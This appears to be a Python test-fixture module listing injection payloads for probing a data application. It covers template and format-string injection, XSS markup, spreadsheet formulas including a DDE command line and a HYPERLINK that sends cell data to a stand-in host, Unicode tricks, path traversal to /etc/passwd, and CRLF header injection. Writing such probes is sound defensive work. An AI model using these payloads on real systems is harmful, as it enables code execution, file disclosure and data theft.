"""What somebody could write into a cell, an address or a message to make the atlas act on it.

Every payload carries `MARK`, which no table and no text of the interface holds, or `SUM`, which
a template engine would work out to `RESULT`: a test that finds the one as markup, or the other
at all, has found a hole.
"""

from __future__ import annotations

import re
from collections.abc import Mapping

MARK = "zqxvj"
SUM = "{{1337*7331}}"
RESULT = "9801547"

TEMPLATE: tuple[str, ...] = (
    SUM,
    "{{ ''.__class__.__mro__ }} zqxvj",
    "{% for zqxvj in range(9) %}{{ 1337*7331 }}{% endfor %}",
    "{% raw %}zqxvj",
    "{# zqxvj",
    "{{zqxvj",
    "}}%}#} zqxvj",
    "${1337*7331} `zqxvj`",
    "#{1337*7331} zqxvj",
    "<%= 1337*7331 %>zqxvj",
)
"""Jinja, JavaScript template strings, and the engines next to them."""

FORMAT: tuple[str, ...] = (
    "{oops} zqxvj",
    "{0} {} zqxvj",
    "{0.__class__.__init__.__globals__} zqxvj",
    "%(zqxvj)s %s %d %n",
    "%{zqxvj} %{customdata[0]} %{y:.3f}",
    "{zqxvj!r:>999999}",
    "$zqxvj$ \\zqxvj \\1 \\g<0>",
)
"""Python's two ways to format, Plotly's, regular expressions' and TeX's."""

MARKUP: tuple[str, ...] = (
    "<script>zqxvj()</script>",
    "<img src=zqxvj onerror=zqxvj()>",
    '"><svg onload=zqxvj()>',
    "'><zqxvj-tag onclick='zqxvj()'>",
    "</title></style></textarea></noscript></script><zqxvj-tag>",
    '<a href="javascript:zqxvj()">zqxvj</a>',
    "<!--zqxvj",
    "--><zqxvj-tag><!--",
    "]]><zqxvj-tag><![CDATA[",
    "&lt;script&gt;zqxvj()&lt;/script&gt;",
    "&#60;zqxvj-tag&#62; &zqxvj; &",
    '" onmouseover="zqxvj()" zqxvj="',
    "' onfocus='zqxvj()' autofocus '",
    "` onzqxvj=`zqxvj`",
    "<zqxvj-tag",
    "<iframe srcdoc='<script>zqxvj()</script>'>",
    "<style>*{background:url(zqxvj)}</style>",
    "<math><mi//xlink:href='data:x,<script>zqxvj()</script>'>",
    "</script><script>zqxvj()//",
    "javascript:zqxvj()",
    "[zqxvj](javascript:zqxvj()) ![zqxvj](https://zqxvj.example/x.png) :material/zqxvj:",
)
"""HTML, SVG, attributes and Markdown."""

FORMULA: tuple[str, ...] = (
    "=1337*7331+zqxvj",
    '=HYPERLINK("https://zqxvj.example?"&A1,"zqxvj")',
    "+1337*7331+zqxvj",
    "-1337*7331-zqxvj",
    "@SUM(1337*7331) zqxvj",
    "=cmd|' /C zqxvj'!A0",
    "＝1337*7331 zqxvj",
    "＋zqxvj",
    "－zqxvj",
    "＠zqxvj",
    'zqxvj\r=1337*7331,"',
    "zqxvj\n=1337*7331",
    'zqxvj",=1337*7331,"',
    "zqxvj;=1337*7331;",
    "zqxvj\t=1337*7331",
)
"""What a spreadsheet would work out, at the start of a cell or after a way out of it."""

LETTERS: tuple[str, ...] = (
    "zqxvj\u202e\u2066txt.exe\u2069",
    "\u200f\u061czqxvj\u200b\u200d\ufeffzqxvj",
    "zqxvj\x00zqxvj",
    "zqxvj\x1b[31mzqxvj\x07\x08",
    "zqxvj\u2028zqxvj\u2029zqxvj\x85zqxvj",
    "z" + "\u0301\u0347\u036f" * 60 + "qx zqxvj",
    "zqxvj\ufffe\uffff\ufffd",
    "ZQX zqxvj \N{LATIN SMALL LETTER DOTLESS I}\N{LATIN CAPITAL LETTER I WITH DOT ABOVE}ßﬀ",
    "zqxvj \N{FAMILY}\U0001f468\u200d\U0001f469\u200d\U0001f467\U0001f1f9\U0001f1ef\U000e0041",
    "zqxvj" + "W" * 6000,
    "zqxvj " + "long words and " * 400 + "zqxvj",
    "ҷӣӯқғҳ zqxvj ЖЩЫ 塔吉克 الطاجيك zqxvj",
)
"""Letters that turn, hide, pile up, break lines or never end."""

PATHS: tuple[str, ...] = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252fetc%252fpasswd",
    "....//....//etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e/%2e%2e/pyproject.toml",
    "/etc/passwd",
    "//zqxvj.example/x",
    "file:///etc/passwd",
    "C:\\zqxvj",
    "zqxvj%00.csv",
    "zqxvj%0d%0aSet-Cookie:%20zqxvj=1",
    "zqxvj%0aX-Zqx:%201",
    "%ff%fe%c0%ae%c0%ae/",
    "%ed%a0%80",
    "%",
    "%zz",
    "%u0041",
    ".",
    "..",
    "~root",
    "con",
    "zqxvj" * 700,
    "__init__.py",
    "datapackage.json",
    ".git/config",
)
"""Ways out of a folder and out of a line, as parts of an address."""

TEXTS: tuple[str, ...] = (*TEMPLATE, *FORMAT, *MARKUP, *FORMULA, *LETTERS)
"""Every text, whatever holds it."""

CONTROLS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff]")
"""What no cell of a table may hold; an address may hold anything."""

CELLS: tuple[str, ...] = tuple(each for each in TEXTS if not CONTROLS.search(each))
"""Everything that the tables' own rules let through."""

GROUPS: Mapping[str, tuple[str, ...]] = {
    "template": TEMPLATE,
    "format": FORMAT,
    "markup": MARKUP,
    "formula": FORMULA,
    "letters": LETTERS,
    "paths": PATHS,
}

URLS: tuple[str, ...] = (
    'https://zqxvj.example/"onmouseover="zqxvj()',
    "https://zqxvj.example/'><zqxvj-tag>",
    "https://zqxvj.example/{{1337*7331}}{%zqxvj%}",
    "https://[zqxvj",
    "https://zqxvj.example:99999999/",
    "http://zqxvj@zqxvj.example/\\..",
    "https://zqxvj.example/%0d%0aX:%20y",
    "https:///zqxvj",
    "https://zqxvj.example/" + "z" * 3000,
    "https://zqxvj.example/)](javascript:zqxvj())",
    "http://zqxvj\u202e.example/",
)
"""What the pattern of an address in the tables lets through."""
